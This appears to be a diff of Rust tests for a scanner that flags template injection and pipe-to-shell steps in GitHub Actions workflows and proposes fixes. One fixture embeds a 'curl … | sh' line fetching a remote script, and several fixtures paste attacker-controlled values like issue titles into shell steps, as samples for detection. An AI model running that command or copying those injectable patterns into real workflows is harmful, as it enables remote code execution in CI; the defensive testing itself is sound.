@@ -1,7 +1,7 @@
 //! Audits together: taint by trigger, fixes, hostile input.
 
 use super::*;
-use crate::model::{Fix, Severity};
+use crate::model::{Confidence, Fix, Severity};
 use crate::scan::iac::{RuleBook, read_rules};
 use proptest::prelude::*;
 
@@ -50,7 +50,7 @@ jobs:
           A: b
         run: |
           echo ${{ inputs.who }}
-          echo ${{inputs.who}} '${{ github.head_ref }}'
+          echo ${{inputs.who}} 'x ${{ github.head_ref }}'
 ";
 
 #[test]
@@ -87,7 +87,7 @@ fn severity_follows_who_decides_the_value() {
     let table = [
         ("github.event.issue.title", Severity::High),
         ("github.event.issue.number", Severity::Info),
-        ("github.ref_name", Severity::High),
+        ("github.ref_name", Severity::Medium),
         ("github.actor", Severity::Low),
         ("github.sha", Severity::Info),
         ("inputs.s", Severity::Medium),
@@ -112,6 +112,75 @@ proptest! {
         text.splice(at..at, bytes);
         for draft in drafts(".github/workflows/a.yml", &text) {
             prop_assert!(draft.span.end as usize <= text.len());
+        }
+    }
+}
+
+#[test]
+fn an_alias_hides_no_expression() {
+    let text = "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      X: &run |\n        echo ${{ github.event.issue.title }}\n        curl https://x.example/i.sh | sh\n    steps:\n      - run: *run\n      - &step\n        run: echo \"${{ github.event.issue.body }}\"\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - *step\n";
+    let drafts = drafts(".github/workflows/a.yml", text.as_bytes());
+    let line = |draft: &Draft| text[..draft.span.start as usize].matches('\n').count() + 1;
+    let of = |rule: &str| -> Vec<usize> {
+        drafts.iter().filter(|draft| draft.rule.id.as_str().ends_with(rule)).map(line).collect()
+    };
+    assert_eq!(of("template-injection"), [10, 12, 16]);
+    assert_eq!(of("pipe-to-shell"), [10]);
+    let fixed = drafts.iter().filter(|draft| draft.rule.id.as_str().ends_with("template-injection"));
+    // Only the step's own text may change; an alias shares its own.
+    assert_eq!(fixed.map(|draft| draft.fixes.len()).collect::<Vec<_>>(), [0, 1, 0]);
+}
+
+#[test]
+fn the_event_decides_how_free_a_context_is() {
+    let of = |on: &str, expression: &str| {
+        let text = format!("on: {on}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{{{ {expression} }}}}\n");
+        let drafts = drafts(".github/workflows/a.yml", text.as_bytes());
+        let found = drafts.into_iter().find(|draft| draft.message.contains("pasted")).expect("a finding");
+        (found.severity, found.confidence)
+    };
+    let table = [
+        ("pull_request_target", "github.head_ref", Severity::High, Confidence::High),
+        ("pull_request_target", "github.ref_name", Severity::Medium, Confidence::High),
+        ("push", "github.ref_name", Severity::Medium, Confidence::High),
+        ("[push, workflow_call]", "github.ref_name", Severity::High, Confidence::High),
+        ("push", "github.event.head_commit.message", Severity::High, Confidence::High),
+        ("issue_comment", "github.event.comment.body", Severity::High, Confidence::High),
+        ("workflow_run", "github.event.workflow_run.head_branch", Severity::High, Confidence::High),
+        ("discussion", "github.event.discussion.title", Severity::High, Confidence::High),
+        ("release", "github.event.release.tag_name", Severity::Medium, Confidence::High),
+        ("repository_dispatch", "github.event.client_payload.x", Severity::Medium, Confidence::High),
+        ("schedule", "github.event.issue.title", Severity::High, Confidence::Medium),
+    ];
+    for (on, expression, severity, confidence) in table {
+        assert_eq!(of(on, expression), (severity, confidence), "{expression} on {on}");
+    }
+}
+
+#[test]
+fn repairs_of_shell_scripts() {
+    let table: &[(&str, Option<&str>)] = &[
+        ("echo '${{ inputs.who }}'", Some("echo \"${INPUTS_WHO}\"")),
+        ("echo 'a ${{ inputs.who }}'", None),
+        ("bash -c '${{ inputs.who }}'", None),
+        ("'${{ inputs.who }}' x", None),
+        ("jq . <<< '${{ toJSON(needs) }}'", Some("jq . <<< \"${TOJSON_NEEDS}\"")),
+        ("echo a \\\n            ${{ inputs.who }}", Some("echo a \\\n            ${INPUTS_WHO}")),
+        ("echo a\n          ${{ inputs.who }}", None),
+        ("echo ${{ env.TAG }}", Some("echo ${TAG}")),
+        ("echo ${{ env.my-tag }}", Some("echo ${MY_TAG}")),
+        ("echo ${{ env.HOME }}", None),
+        ("echo ${{ github['head_ref'] }}", Some("echo ${GITHUB_HEAD_REF}")),
+    ];
+    for (script, expected) in table {
+        let text = format!("on: pull_request\npermissions: {{}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          {script}\n");
+        let found = drafts(".github/workflows/a.yml", text.as_bytes());
+        let draft = found.iter().find(|draft| draft.message.contains("pasted")).expect("a finding");
+        let mended = draft.fixes.first().map(|fix| apply(&text, fix));
+        match expected {
+            Some(_) if mended.is_none() => panic!("no repair: {text}"),
+            None => assert!(mended.is_none(), "{mended:?}"),
+            Some(expected) => assert!(mended.as_ref().is_some_and(|text| text.contains(expected)), "{expected}: {mended:?}"),
         }
     }
 }
